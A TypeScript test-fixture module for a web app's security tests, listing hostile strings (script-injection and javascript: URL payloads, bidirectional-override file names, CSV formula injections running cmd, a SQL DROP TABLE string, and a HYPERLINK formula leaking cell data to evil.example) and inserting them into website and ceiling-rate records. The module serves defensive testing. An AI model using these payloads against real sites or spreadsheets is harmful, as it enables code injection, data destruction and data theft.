import type { DatasetName } from '../../engine/http/types.ts';
/**
 * Records whose text is hostile: markup and script payloads, `javascript:` URLs, very long strings,
 * bidirectional overrides, zero-width characters, spreadsheet formula starts, control characters and emoji.
 * They are ordinary API-shaped records entered through the schema's own insert functions, so every view,
 * the CSV export and the engine meet them exactly as they would meet an imported file.
 *
 * Every script payload calls `window.__hostile('<payload name>')` (or `alert`): a browser test installs
 * `__hostile` as a recorder and fails if it is ever called, and fails on any dialog.
 */
import type { Database } from 'sql.js';
import { NO_FURTHER_FIELDS, type WebsiteRecord } from '../../engine/site-scanning/record.ts';
import type { CeilingRateRecord } from '../../engine/ceilingrates/record.ts';
import { insertWebsites } from '../../engine/site-scanning/schema.ts';
import { insertCeilingRates, writeCeilingRatesColumns } from '../../engine/ceilingrates/schema.ts';
import { hasColumnTable } from '../../engine/ceilingrates/columns/table.ts';

/** The global a browser test defines to catch any payload that runs. */
export const HOSTILE_MARKER = '__hostile';

export interface HostilePayload {
  /** Short stable name, also the argument the payload passes to the marker. */
  name: string;
  text: string;
}

const call = (name: string): string => `${HOSTILE_MARKER}('${name}')`;
const LONG = 10_000;

/** `tail` preceded by copies of `filler`, exactly LONG characters in all. */
const padStart = (tail: string, filler: string): string => filler.repeat(LONG).slice(0, LONG - tail.length) + tail;

/** The catalogue. Texts hold no NUL (SQLite text and many file formats end at it). */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  { name: 'img-onerror', text: `<img src=x onerror=${call('img-onerror')}>` },
  { name: 'img-onerror-alert', text: '<img src=x onerror=alert(1)>' },
  { name: 'script', text: `<script>${call('script')}</script>` },
  { name: 'script-alert', text: '<script>alert(document.domain)</script>' },
  { name: 'svg-onload', text: `"><svg onload=${call('svg-onload')}>` },
  { name: 'attr-break-single', text: `' onmouseover='${call('attr-break-single')}' x='` },
  { name: 'attr-break-double', text: `" autofocus onfocus="${call('attr-break-double')}" x="` },
  { name: 'textarea-break', text: `</textarea></title></style><script>${call('textarea-break')}</script>` },
  { name: 'iframe-srcdoc', text: `<iframe srcdoc="<script>parent.${call('iframe-srcdoc')}</script>"></iframe>` },
  { name: 'details-ontoggle', text: `<details open ontoggle=${call('details-ontoggle')}>` },
  { name: 'javascript-url', text: `javascript:${call('javascript-url')}` },
  { name: 'javascript-url-mixed', text: `JaVaScRiPt:${call('javascript-url-mixed')}` },
  { name: 'javascript-url-entity', text: `jav&#x09;ascript:${call('javascript-url-entity')}` },
  { name: 'data-url', text: `data:text/html,<script>${call('data-url')}</script>` },
  { name: 'template-literal', text: `\${${call('template-literal')}}` },
  { name: 'angular-template', text: `{{constructor.constructor('${call('angular-template')}')()}}` },
  { name: 'css-url', text: `<style>*{background:url("javascript:${call('css-url')}")}</style>` },
  { name: 'markdown-link', text: `[click](javascript:${call('markdown-link')})` },
  { name: 'entity-text', text: '&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;' },
  { name: 'escaped-unicode-text', text: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' },
  { name: 'html-comment', text: '<!-- --><b>bold?</b><!--' },
  { name: 'json-break', text: '"}],"injected":{"x":"' },
  { name: 'rtl-override', text: 'invoice\u202Efdp.exe' },
  { name: 'ltr-override', text: '\u202Dsafe\u202C \u202Egnp.exe\u202C' },
  { name: 'rtl-marks', text: '\u200Fשלום\u200E hello \u2067isolated\u2069 \u061Cعربي' },
  { name: 'zero-width', text: 'ad\u200Bmin\u200C \u200Droot\uFEFF \u2060join' },
  { name: 'formula-equals', text: "=cmd|' /C calc'!A0" },
  { name: 'formula-plus', text: "+cmd|' /C calc'!A0" },
  { name: 'formula-minus', text: "-2+3+cmd|' /C calc'!A0" },
  { name: 'formula-at', text: "@SUM(1+9)*cmd|' /C calc'!A0" },
  { name: 'formula-pipe', text: '|cmd /C calc' },
  // Beyond the five formula starts (`= + - @ |`), ASVS 1.2.10 and OWASP list a leading tab and CR too.
  { name: 'formula-tab', text: "\t=1+1+cmd|' /C calc'!A0" },
  { name: 'formula-cr', text: "\r=2+2+cmd|' /C calc'!A0" },
  { name: 'formula-hyperlink', text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' },
  { name: 'csv-quotes', text: 'He said "hi", then left' },
  { name: 'csv-newlines', text: 'line one\nline two\r\nline three\rend' },
  { name: 'csv-quoted-formula', text: '",=cmd|\' /C calc\'!A0,"' },
  { name: 'control-chars', text: 'bell\u0007 back\u0008 esc\u001B[31mred\u001B[0m del\u007F tab\tend \u0085next \u2028line\u2029para' },
  { name: 'emoji', text: '👩🏽‍💻 🇺🇸 🏳️‍🌈 😀 \u{1F4A9}' },
  { name: 'combining', text: 'Z̴̡̛̖̪͎̗̀͊a̵̡̛̗͔̓l̷̞̈́g̸͇̓o̶̧̊' },
  { name: 'sql', text: "'; DROP TABLE websites; DROP TABLE ceilingrates; --" },
  { name: 'prototype', text: '__proto__' },
  { name: 'long-plain', text: 'A'.repeat(LONG) },
  { name: 'long-markup', text: padStart(`<img src=x onerror=${call('long-markup')}>`, '<b>') },
  { name: 'long-unbroken-url', text: `https://evil.example/${'a'.repeat(LONG - 21)}` },
];

/** A payload by name (throws on a typo, so tests and fixtures cannot silently drift). */
export function hostilePayload(name: string): HostilePayload {
  const found = HOSTILE_PAYLOADS.find((p) => p.name === name);
  if (!found) throw new Error(`no hostile payload named ${name}`);
  return found;
}

/**
 * target_url values carrying payloads: lower case (the `/websites/{url}` lookup lower-cases the path) and
 * free of `/`, `?`, `#`, `\` and `%`, so each one is reachable by its own URL.
 */
export const HOSTILE_TARGET_URLS: readonly string[] = [
  `<img src=x onerror=${call('target-img')}>.example.gov`,
  `"><svg onload=${call('target-svg')}>.example.gov`,
  `javascript:${call('target-javascript')}`,
  'hostile\u202Evog.example.gov',
  'zero\u200Bwidth.example.gov',
  "=cmd|' -c calc'!a0.example.gov",
  '👩🏽‍💻.example.gov',
];

const HOSTILE_DOMAIN = 'hostile.example.gov';

function websiteRecord(targetUrl: string, text: string, index: number): WebsiteRecord {
  return {
    scan_date: '2026-08-20T20:07:25.507Z',
    target_url_domain: HOSTILE_DOMAIN,
    scan_status: 'completed',
    final_url: text,
    final_url_live: true,
    final_url_domain: HOSTILE_DOMAIN,
    final_url_website: text,
    final_url_MIMEType: text,
    final_url_same_domain: true,
    final_url_status_code: 200,
    final_url_same_website: index % 2 === 0,
    target_url_404_test: true,
    target_url_redirects: false,
    ds_usa_classes: 2,
    ds_usa_class_list: [text, 'usa-banner'],
    ds_usa_elements_list: [text],
    ds_banner_heres_how: false,
    ds_semantic_version: text,
    ds_count: 3,
    dap_detected_final_url: true,
    dap_parameters_final_url: { agency: text, [text]: 'key is hostile' },
    og_title_final_url: text,
    og_description_final_url: text,
    main_element_present_final_url: true,
    robots_txt_detected: true,
    sitemap_xml_detected: false,
    third_party_service_domains: [text, 'dap.digitalgov.gov'],
    third_party_service_count: 2,
    cms: text,
    target_url: targetUrl,
    target_url_branch: text,
    target_url_agency_owner: text,
    target_url_bureau_owner: text,
    ...NO_FURTHER_FIELDS,
  };
}

/**
 * One website record per payload, the payload in every free-text field (URL, title, description, owners,
 * lists, object keys and values), plus one record per hostile target_url. Identity fields stay
 * well-formed so the records can be looked up: target_url `hostile-<n>.example.gov`.
 */
export function hostileWebsites(): WebsiteRecord[] {
  const byPayload = HOSTILE_PAYLOADS.map((p, i) => websiteRecord(`hostile-${String(i).padStart(2, '0')}.example.gov`, p.text, i));
  const byTarget = HOSTILE_TARGET_URLS.map((url, i) => websiteRecord(url, HOSTILE_PAYLOADS[i].text, i));
  return [...byPayload, ...byTarget];
}

/** Ids far above any generated profile's, so hostile rates can join a generated database. */
export const HOSTILE_FIRST_ID = 900_000_001;

/** One ceiling rate per payload, the payload in every text field; numbers and dates stay well-formed. */
export function hostileCeilingRates(firstId: number = HOSTILE_FIRST_ID): CeilingRateRecord[] {
  return HOSTILE_PAYLOADS.map(({ text }, i) => ({
    id: firstId + i,
    vendor_name: text,
    idv_piid: text,
    schedule: text,
    sin: text,
    labor_category: text,
    category: text,
    subcategory: text,
    education_level: text,
    min_years_experience: i % 15,
    worksite: text,
    security_clearance: text,
    business_size: text,
    current_price: 100 + i + 0.25,
    next_year_price: i % 3 === 0 ? null : 110 + i,
    second_year_price: i % 3 === 0 ? null : 120.5 + i,
    contract_start: '2024-01-15',
    contract_end: '2029-01-14',
    cont_beg_dtg: '20240115',
    cont_end_dtg: '20290114',
    dt_termg: null,
    _timestamp: '2026-07-01T03:04:05Z',
  }));
}

/**
 * Add the hostile records of one dataset to a database that already has its schema. A built ceiling-rates
 * database carries a column table that must be rewritten after any change (`writeCeilingRatesColumns`): it
 * is, so the engine binds from a table that matches the records.
 */
export function insertHostileRecords(db: Database, dataset: DatasetName): number {
  if (dataset === 'websites') {
    const records = hostileWebsites();
    insertWebsites(db, records);
    return records.length;
  }
  if (dataset !== 'ceilingrates') throw new Error(`no hostile records for ${dataset}`);
  const records = hostileCeilingRates();
  const hadColumnTable = hasColumnTable(db);
  insertCeilingRates(db, records);
  if (hadColumnTable) writeCeilingRatesColumns(db);
  return records.length;
}
